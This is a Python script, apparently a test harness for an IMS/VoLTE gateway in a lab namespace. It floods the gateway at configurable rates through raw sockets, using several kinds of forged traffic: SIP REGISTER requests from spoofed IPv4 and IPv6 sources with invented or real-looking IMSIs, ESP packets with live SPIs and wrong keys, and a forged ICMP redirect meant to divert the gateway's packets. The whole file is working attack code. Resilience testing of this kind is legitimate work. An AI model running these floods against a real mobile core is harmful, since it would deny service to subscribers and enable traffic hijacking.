#!/usr/bin/env python3
"""Floods of a stranger on Gm, from a namespace of its own, whole IP packets with whatever source it likes. Prints one JSON object:
what was sent in how long.   abuse.py KIND SECONDS [RATE] [ARGUMENT]"""
import json
import os
import random
import socket
import struct
import sys
import time

GATEWAY, GATEWAY6 = "10.21.0.1", "fd00:21::1"
REALM = "ims.mnc001.mcc001.3gppnetwork.org"
rng = random.Random(11)


def register(imsi: str, source: str = "phone.invalid") -> bytes:
    host = f"[{source}]" if ":" in source else source
    n = rng.getrandbits(31) | 256
    mechanism = f"ipsec-3gpp;alg=hmac-sha-1-96;ealg=null;prot=esp;mod=trans;spi-c={n};spi-s={n + 1};port-c={rng.randrange(2000, 60000)};port-s=7777"
    return (f"REGISTER sip:{REALM} SIP/2.0\r\nVia: SIP/2.0/UDP {host}:5060;branch=z9hG4bK{rng.getrandbits(64):x}\r\nMax-Forwards: 70\r\n"
            f"From: <sip:{imsi}@{REALM}>;tag={rng.getrandbits(32):x}\r\nTo: <sip:{imsi}@{REALM}>\r\nCall-ID: {rng.getrandbits(64):x}\r\n"
            f"CSeq: 1 REGISTER\r\nContact: <sip:{imsi}@{host}:7777>\r\nExpires: 600000\r\nRequire: sec-agree\r\nProxy-Require: sec-agree\r\n"
            f"Supported: path, sec-agree\r\nSecurity-Client: {mechanism}\r\n"
            f"Authorization: Digest username=\"{imsi}@{REALM}\",realm=\"{REALM}\",nonce=\"\",uri=\"sip:{REALM}\",response=\"\"\r\n"
            "Content-Length: 0\r\n\r\n").encode()


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source: str, protocol: int, payload: bytes) -> tuple[bool, bytes]:
    """(IPv6?, a whole packet to the gateway)"""
    if ":" in source:
        a, b = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, GATEWAY6)
        if protocol == 17:
            pseudo = a + b + struct.pack("!II", len(payload), 17)
            payload = payload[:6] + struct.pack("!H", checksum(pseudo + payload) or 0xFFFF) + payload[8:]
        return True, struct.pack("!IHBB", 0x60000000, len(payload), protocol, 64) + a + b + payload
    a, b = socket.inet_aton(source), socket.inet_aton(GATEWAY)
    return False, struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), rng.getrandbits(16), 0, 64, protocol, 0, a, b) + payload


def udp(source: str, port: int, data: bytes) -> tuple[bool, bytes]:
    return ip(source, 17, struct.pack("!HHHH", port, 5060, 8 + len(data), 0) + data)


def known(n: int) -> str:
    return f"{1010000000000 + n:015d}"


def anybody() -> str:
    if rng.random() < 0.5:
        n = rng.randrange(1, 0xFFFF)
        return f"fd00:99:{n:x}:{0xFFFF - n:x}::1"
    return f"11.{rng.getrandbits(8)}.{rng.getrandbits(8)}.{rng.randrange(1, 255)}"


def packets(kind: str, argument: str) -> list[tuple[bool, bytes]]:
    if kind == "strangers":  # invented names
        return [udp(s, 5060, register(f"99{rng.getrandbits(40):013d}"[:15])) for s in (anybody() for _ in range(20000))]
    if kind == "one-source":
        return [udp("11.1.1.1", 5060, register(f"98{i:013d}", "11.1.1.1")) for i in range(2000)]
    if kind == "one-64":  # every address of one network
        sources = [f"fd00:99:1:1:{rng.getrandbits(16):x}:{rng.getrandbits(16):x}:{rng.getrandbits(16):x}:1" for _ in range(5000)]
        return [udp(s, 5060, register(f"97{i:013d}", s)) for i, s in enumerate(sources)]
    if kind == "known-names":  # of subscribers that are not registered: each costs the home a vector and us SAs
        first, count = map(int, argument.split("+"))
        return [udp(s, 5060, register(known(first + i % count))) for i, s in enumerate(anybody() for _ in range(20000))]
    if kind == "one-name":
        return [udp(s, 5060, register(known(int(argument)))) for s in (anybody() for _ in range(10000))]
    if kind == "esp":  # live SPIs, right addresses, wrong keys; the argument: a file of "UE-ADDRESS SPI" lines
        with open(argument) as f:
            live = [line.split() for line in f if line.strip()]
        return [ip(ue, 50, struct.pack("!II", int(spi), 1 + rng.randrange(1, 2000)) + os.urandom(rng.choice([24, 88, 600, 1200])))
                for ue, spi in (live[i % len(live)] for i in range(8000))]
    if kind == "redirects":  # ICMP redirects that would send the gateway's packets for the argument to the sender
        inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton(GATEWAY), socket.inet_aton(argument)) + bytes(8)
        body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton("10.21.0.66")) + inner
        return [ip("10.21.0.2", 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])]
    raise SystemExit(f"no such flood: {kind}")


def elsewhere(v6: bool, packet: bytes) -> bytes:
    """The same packet from a source never seen before; its checksums stay right."""
    if v6:  # two words whose sum stays the same
        n = rng.randrange(1, 0xFFFF)
        return packet[:12] + struct.pack("!HH", n, 0xFFFF - n) + packet[16:]
    return packet[:12] + b"\x0b" + rng.randbytes(3) + packet[16:]  # no UDP checksum; the kernel makes that of IP


def main() -> int:
    kind, seconds = sys.argv[1], float(sys.argv[2])
    rate = float(sys.argv[3]) if len(sys.argv) > 3 else 20000.0
    made = packets(kind, sys.argv[4] if len(sys.argv) > 4 else "")
    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for s in (raw4, raw6):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    to4, to6 = (GATEWAY, 0), (GATEWAY6, 0)
    invented = kind in ("strangers", "known-names", "one-name")
    print("ready", file=sys.stderr, flush=True)
    begun, sent, lost = time.monotonic(), 0, 0
    while (now := time.monotonic() - begun) < seconds:
        due = int(now * rate) - sent - lost
        for _ in range(min(due, 500)):
            v6, packet = made[(sent + lost) % len(made)]
            if invented:
                packet = elsewhere(v6, packet)
            try:
                (raw6.sendto(packet, to6) if v6 else raw4.sendto(packet, to4))
                sent += 1
            except OSError:
                lost += 1
        if due <= 0:
            time.sleep(0.001)
    print(json.dumps({"kind": kind, "sent": sent, "not_sent": lost, "seconds": round(time.monotonic() - begun, 1)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
